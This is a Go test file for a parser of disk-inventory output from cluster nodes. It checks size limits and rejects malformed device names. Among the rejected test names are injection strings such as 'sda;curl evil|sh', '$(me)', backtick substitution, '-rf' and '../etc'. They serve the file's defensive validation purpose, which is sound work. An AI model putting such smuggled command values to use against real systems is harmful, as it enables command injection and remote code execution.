// SPDX-License-Identifier: Apache-2.0

package nodescript

import (
	"fmt"
	"strings"
	"testing"

	"github.com/talosdisk/kubectl-talosdisk/pkg/snapshot"
)

// answer is one of a node with records of its own.
func answer(records ...string) string {
	return "record=start" + fieldEnd + "version=1" + fieldEnd + recordEnd + strings.Join(records, "") + End
}

func diskRecord(name string, more ...string) string {
	return "record=disk" + fieldEnd + strings.Join(append([]string{"name=" + name, "number=8:0", "size=8"}, more...), fieldEnd) + fieldEnd +
		recordEnd
}

func many(n int, record func(i int) string) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(record(i))
	}
	return b.String()
}

// An answer that is larger than a node is refused, and is no smaller view of the node.
func TestAnswersOfHostileSizes(t *testing.T) {
	numbered := func(i int) string { return diskRecord(fmt.Sprintf("sd%d", i)) }
	for name, tt := range map[string]struct{ out, why string }{
		"3000 disks":   {out: answer(many(3000, numbered)), why: "more than 2048"},
		"120000 disks": {out: answer(many(120000, numbered)), why: "more than 16384 records"},
		"entries": {out: answer("record=dir"+fieldEnd+"class=a"+fieldEnd+"path=/a"+fieldEnd+recordEnd, many(9000, func(i int) string {
			return fmt.Sprintf("record=entry%sclass=a%sname=e%d%s%s", fieldEnd, fieldEnd, i, fieldEnd, recordEnd)
		})), why: "more than 8192 entries"},
		"partitions": {
			out: answer(diskRecord("sda", strings.Split(strings.Repeat("part=sda1 ", 1500), " ")[:1500]...)),
			why: "more than 1024",
		},
		"fields": {
			out: answer(diskRecord("sda", strings.Split(strings.Repeat("part=sda1 ", 3000), " ")[:3000]...)),
			why: "more than 2048 fields",
		},
		"a long value": {out: answer(diskRecord("sda", "serial="+strings.Repeat("x", 70000))), why: "more than 65536"},
		"names of a disk": {
			out: answer("record=names"+fieldEnd+"names="+many(1500, func(i int) string { return fmt.Sprintf("8:0 /dev/disk/by-id/n%d\n", i) })+
				fieldEnd+recordEnd, diskRecord("sda")),
			why: "more than 1024",
		},
	} {
		t.Run(name, func(t *testing.T) {
			view, err := Parse(tt.out)
			if err == nil || !strings.Contains(err.Error(), tt.why) || len(view.Disks)+len(view.Dirs) > 0 {
				t.Errorf("%d disks, %v; not %q", len(view.Disks), err, tt.why)
			}
		})
	}
	if view, err := Parse(answer(many(snapshot.MaxDisks, numbered))); err != nil || len(view.Disks) != snapshot.MaxDisks {
		t.Errorf("as many disks as may be: %d, %v", len(view.Disks), err)
	}
}

// What no kernel and no udev would say makes the whole answer one that is not believed.
func TestNamesOutsideTheirGrammar(t *testing.T) {
	for name, record := range map[string]string{
		"a command":           diskRecord("sda;curl evil|sh"),
		"a quote":             diskRecord("sd'a"),
		"an option":           diskRecord("-rf"),
		"a blank":             diskRecord("sd a"),
		"a line break":        diskRecord("sda\nsdb"),
		"an escape":           diskRecord("sda\x1b[31m"),
		"the parent of /dev":  diskRecord("../etc"),
		"nothing":             diskRecord(""),
		"a holder":            diskRecord("sda", "holders=$(me)"),
		"a partition":         diskRecord("sda", "part=sda1 x"),
		"sysfs":               diskRecord("sda", "sysfs=/sys/block/sd`a`"),
		"a bidirectional one": "record=names" + fieldEnd + "names=8:0 /dev/disk/by-id/wwn-\u202e0\n" + fieldEnd + recordEnd + diskRecord("sda"),
	} {
		t.Run(name, func(t *testing.T) {
			if view, err := Parse(answer(record)); err == nil || len(view.Disks) > 0 {
				t.Errorf("%+v, %v", view.Disks, err)
			}
		})
	}
	for _, name := range []string{"sda", "nvme0n1p1", "cciss/c0d0", "mapper/vg0-lv--x", "dm-0", "md127", "mapper/luks2-r-data",
		"disk_1.x+y:z=@#"} {
		if view, err := Parse(answer(diskRecord(name, "sysfs=/sys/block/cciss!c0d0"))); err != nil || len(view.Disks) != 1 {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func BenchmarkParse(b *testing.B) {
	out := answer(many(snapshot.MaxDisks, func(i int) string { return diskRecord(fmt.Sprintf("sd%d", i)) }))
	b.SetBytes(int64(len(out)))
	for b.Loop() {
		if _, err := Parse(out); err != nil {
			b.Fatal(err)
		}
	}
}

// FuzzHostileSizes repeats parts of an answer until they are large: what is taken stays within the limits.
func FuzzHostileSizes(f *testing.F) {
	f.Add("record=disk\x1fname=sda\x1fnumber=8:0\x1f\x1e", uint(3000))
	f.Add("record=entry\x1fclass=a\x1fname=x\x1f\x1e", uint(120000))
	f.Add("record=names\x1fnames=8:0 /dev/disk/by-id/x\n\x1f\x1e", uint(50000))
	f.Fuzz(func(t *testing.T, part string, times uint) {
		const most = 1 << 20
		if len(part) == 0 || len(part) > most {
			t.Skip()
		}
		view, err := Parse(answer(strings.Repeat(part, int(times%(most/uint(len(part))+1)))))
		if err == nil && view.Check() != nil {
			t.Errorf("%v", view.Check())
		}
	})
}
